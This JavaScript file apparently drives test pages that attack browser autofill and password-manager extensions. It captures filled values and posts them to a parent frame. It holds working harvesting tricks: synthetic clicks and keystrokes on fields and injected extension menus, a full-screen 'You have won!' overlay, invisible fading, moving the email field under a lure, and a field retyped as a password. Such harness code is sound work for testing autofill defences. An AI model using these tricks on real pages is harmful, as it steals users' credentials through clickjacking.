// Tricks against form fillers, one per page. `got` reads the watched fields by the native getter every frame and never
// forgets. Anything a script adds to the document, at any depth, is an "arrival" and gets attacked.
const attack = document.querySelector('[data-attack]').dataset.attack;
const output = document.getElementById('got');
const native = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').get;
const seen = new Map();
const mine = new WeakSet();

function watch() {
  for (const input of document.querySelectorAll('[data-watch]')) {
    const value = native.call(input);
    if (value) report(`${input.name}[${input.type}]`, value);
  }
  requestAnimationFrame(watch);
}

function report(name, value) {
  if (seen.get(name) === value) return;
  seen.set(name, value);
  output.dataset.got = 'yes';
  output.textContent = `got: ${[...seen].map(([key, got]) => `${key}=${got}`).join('; ')}`;
  if (window.parent !== window) window.parent.postMessage({ got: [name, value] }, '*');
}

/** Calls back with every element that someone else put into the document, also straight under <html>. */
function onArrival(callback) {
  new MutationObserver((records) => {
    for (const { addedNodes } of records) {
      for (const node of addedNodes) if (node instanceof HTMLElement && !mine.has(node)) callback(node);
    }
  }).observe(document.documentElement, { childList: true, subtree: true });
}

function element(tag, style, text = '') {
  const made = Object.assign(document.createElement(tag), { textContent: text });
  mine.add(made);
  Object.assign(made.style, style);
  return made;
}

const attacks = {
  synthetic() {
    const keys = ['ArrowDown', 'Enter', ' ', 'Tab'];
    const pointer = ['pointerover', 'pointermove', 'pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click'];
    const strike = (target, x = 0, y = 0) => {
      const shared = { bubbles: true, composed: true, cancelable: true, clientX: x, clientY: y, button: 0, detail: 1 };
      for (const type of pointer) {
        const Kind = type.startsWith('pointer') ? PointerEvent : MouseEvent;
        target.dispatchEvent(new Kind(type, { ...shared, isPrimary: true, pointerId: 1 }));
      }
      for (const key of keys) {
        for (const type of ['keydown', 'keyup']) {
          target.dispatchEvent(new KeyboardEvent(type, { bubbles: true, composed: true, cancelable: true, key }));
        }
      }
      target.click?.();
    };
    const arrivals = new Set();
    onArrival((node) => arrivals.add(node));
    const fields = [...document.querySelectorAll('[data-watch]')];
    setInterval(() => {
      for (const input of fields) {
        if (document.activeElement === document.body) input.focus();
        input.dispatchEvent(new FocusEvent('focus'));
        input.dispatchEvent(new FocusEvent('focusin', { bubbles: true, composed: true }));
        const box = input.getBoundingClientRect();
        strike(input, box.right - 16, box.top + box.height / 2);
        // The places of a menu under the field and of a mark at its end.
        for (const [x, y] of [
          [box.right - 16, box.top + box.height / 2],
          [box.left + 40, box.bottom + 24],
        ]) {
          const there = document.elementFromPoint(x, y);
          if (there) strike(there, x, y);
        }
      }
      for (const node of arrivals) {
        if (!node.isConnected) continue;
        const box = node.getBoundingClientRect();
        strike(node, box.left + box.width / 2, box.top + box.height / 2);
        for (const inner of node.shadowRoot?.querySelectorAll('*') ?? []) strike(inner);
      }
    }, 150);
  },

  overlay() {
    const cover = element(
      'div',
      {
        position: 'fixed',
        inset: '0',
        width: '100%',
        height: 'auto',
        margin: '0',
        border: '0',
        padding: '20vh 2rem',
        background: 'Canvas',
        color: 'CanvasText',
        textAlign: 'center',
        font: '1.5rem Georgia, serif',
        pointerEvents: 'none',
        zIndex: '2147483647',
        boxSizing: 'border-box',
      },
      'You have won! Click anywhere to collect.',
    );
    cover.popover = 'manual';
    // Last in the document and last in the top layer, again for every arrival and for whatever is raised since.
    const raise = () => {
      document.documentElement.append(cover);
      cover.style.top = `${output.getBoundingClientRect().bottom + 8}px`;
      cover.hidePopover();
      cover.showPopover();
    };
    onArrival(raise);
    const raised = ({ target }) => target !== cover && queueMicrotask(raise);
    document.addEventListener('beforetoggle', raised, true);
  },

  faded() {
    // Only while something is there, so that a person can read afterwards what was got.
    const lure = document.getElementById('lure');
    const present = new Set();
    onArrival((node) => {
      present.add(node);
      node.style.setProperty('opacity', '0', 'important');
      const { left, top } = node.getBoundingClientRect();
      Object.assign(lure.style, { position: 'fixed', left: `${left}px`, top: `${top}px`, pointerEvents: 'none' });
    });
    setInterval(() => {
      for (const node of present) if (!node.isConnected) present.delete(node);
      document.documentElement.style.opacity = present.size > 0 ? '0.05' : '';
    }, 50);
  },

  moving() {
    const email = document.getElementById('email');
    const lure = document.getElementById('lure');
    const move = () => {
      const to = lure.getBoundingClientRect();
      Object.assign(email.style, {
        position: 'fixed',
        left: `${to.left}px`,
        top: `${to.top - 52}px`,
        width: '16rem',
        transition: 'top 80ms, left 80ms',
      });
    };
    email.addEventListener('focus', () => setTimeout(move, 300));
    onArrival(() => setTimeout(move, 250));
  },

  changing() {
    let field = document.getElementById('email');
    const turn = () => {
      setTimeout(() => {
        field.type = 'text';
        field.autocomplete = 'off';
      }, 250);
      setTimeout(() => {
        field.type = 'password';
        field.name = 'current-password';
        field.autocomplete = 'current-password';
      }, 500);
      setTimeout(() => {
        const other = field.cloneNode();
        mine.add(other);
        field.replaceWith(other);
        field = other;
      }, 2500);
    };
    field.addEventListener('focus', turn, { once: true });
  },

  hidden() {},
  frame() {},
  framed() {
    addEventListener('message', ({ data }) => {
      if (Array.isArray(data?.got)) report(`frame: ${data.got[0]}`, String(data.got[1]));
    });
  },
};

watch();
attacks[attack]();
